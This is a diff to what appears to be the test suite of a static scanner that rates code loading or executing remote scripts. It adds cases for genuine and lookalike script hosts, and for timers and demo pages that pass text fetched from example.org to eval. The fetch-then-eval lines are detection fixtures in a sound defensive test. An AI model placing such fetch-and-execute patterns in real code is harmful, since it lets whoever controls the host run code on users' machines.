@@ -240,6 +240,8 @@ test('what a service serves to its customers, an attacker cannot fill', () => {
   assert.equal(worst('importScripts("https://www.gstatic.com/firebasejs/9.1.0/firebase-app-compat.js", "https://storage.googleapis.com/workbox-cdn/releases/6.4.1/workbox-sw.js")'), 'medium');
   assert.equal(worst('import { app } from "https://www.gstatic.com/firebasejs/9.1.0/firebase-app.js"'), 'medium');
   assert.equal(worst('<script src="https://checkout.razorpay.com/v1/checkout.js"></script>', 'a.html'), 'medium');
+  assert.equal(worst('<script src="https://ui5.sap.com/1.120.0/resources/sap-ui-core.js"></script>', 'a.html'), 'medium');
+  for (const host of ['mine.hana.ondemand.com', 'ui5.sap.com.example.org']) assert.equal(worst(`<script src="https://${host}/resources/sap-ui-core.js"></script>`, 'a.html'), 'high', host);
 });
 
 test('bad: what only looks like a service, and what somebody else may have put there', () => {
@@ -340,6 +342,17 @@ test('programs that start what was downloaded, packages of Python by their addre
   for (const code of ['import os\nos.system("pip install torch --index-url https://download.pytorch.org/whl/cu121")', 'import os\nos.system("pip install torch")']) assert.equal(worst(code, 'a.py'), 'nothing', code);
 });
 
+test('good: a function that a function of the script gives back is no text for a timer; bad: a text that it gives back', () => {
+  const later = 'function later(work) { return function () { return step(work.apply(this, arguments)) } }';
+  const of = (more: string, helper = later) => worst(`${helper} async function poll() { ${more} }`);
+  for (const code of ['setTimeout(later(function* () { const answer = await (await fetch(u)).json(); return answer.next }), 400)', 'setInterval(later(async () => (await fetch(u)).text()), 400)']) assert.equal(of(code), 'nothing', code);
+  const answer = 'setTimeout(later(await (await fetch("https://x.example.org/a")).text()), 400)';
+  assert.equal(of(answer, 'function later(text) { return text + ";" }'), 'critical');
+  assert.equal(of(answer, 'function later(text) { if (text.length > 9) return text; return function () {} }'), 'critical');
+  assert.equal(of(answer, 'let later = (text) => () => text; later = (text) => text;'), 'critical');
+  assert.equal(of(answer, 'function later(text) { return function () { eval(text) } }'), 'critical');
+});
+
 test('what a script reads from its input is not what is started', () => {
   const start = (given: string): string => worst(`const cp = require("child_process"), path = require("path"); fetch(u).then((r) => r.text()).then((t) => cp.execFileSync(${given}))`);
   assert.equal(start('process.execPath, [path.join(__dirname, "worker.js")], { input: t }'), 'nothing');
@@ -419,6 +432,14 @@ test('bad: such a page that something opens, and one that stands elsewhere', () 
   assert.deepEqual(files('const f = "examples"; open(f + "/" + name + ".html")'), ['high']);
   assert.deepEqual(files('run()', 'panels/view.html'), ['medium']);
   assert.deepEqual(findingsOf(rule, { 'examples/a.html': `${page}<script>fetch("https://example.org/x").then((r) => r.text()).then(eval)</script>`, 'index.js': 'run()', 'dist/grid.js': 'grid()' }, { entry_points: ['index.js'] })[0]?.severity, 'medium', 'an answer that runs');
+});
+
+test('a comment opens no page of examples; a text does, and a comment that another reading runs', () => {
+  const page = '<script src="https://unpkg.com/loader@^2.0.0/loader.js"></script><script type="module">import "../grid.js"</script>';
+  const of = (index: string, path = 'index.js') => findingsOf(rule, { [path]: index, 'demo/index.html': page, 'grid.js': 'grid()' }, { entry_points: [path] }).map(({ severity }) => severity);
+  for (const comment of ['/**\n@demo demo/index.html\n*/ run()', '// see demo/index.html\nrun("index")', 'run() /* `demo/index.html` */']) assert.deepEqual(of(comment), ['low'], comment);
+  assert.deepEqual(of('/** @demo demo/index.html */ run() as void', 'index.ts'), ['low']);
+  for (const text of ['open("demo/index.html")', 'open(`${root}/demo/index.html`)', 'const dir = "demo"; open(dir + "/index.html")', 'open("/*", "demo/index.html", "*/")', 'const view = <a href="demo/index.html" />', 'run <!--one; open("demo/index.html")', 'open({ "demo": "index.html" })']) assert.deepEqual(of(text), ['high'], text);
 });
 
 test('where nobody knows what is started, a page of examples counts as one that nothing names', () => {
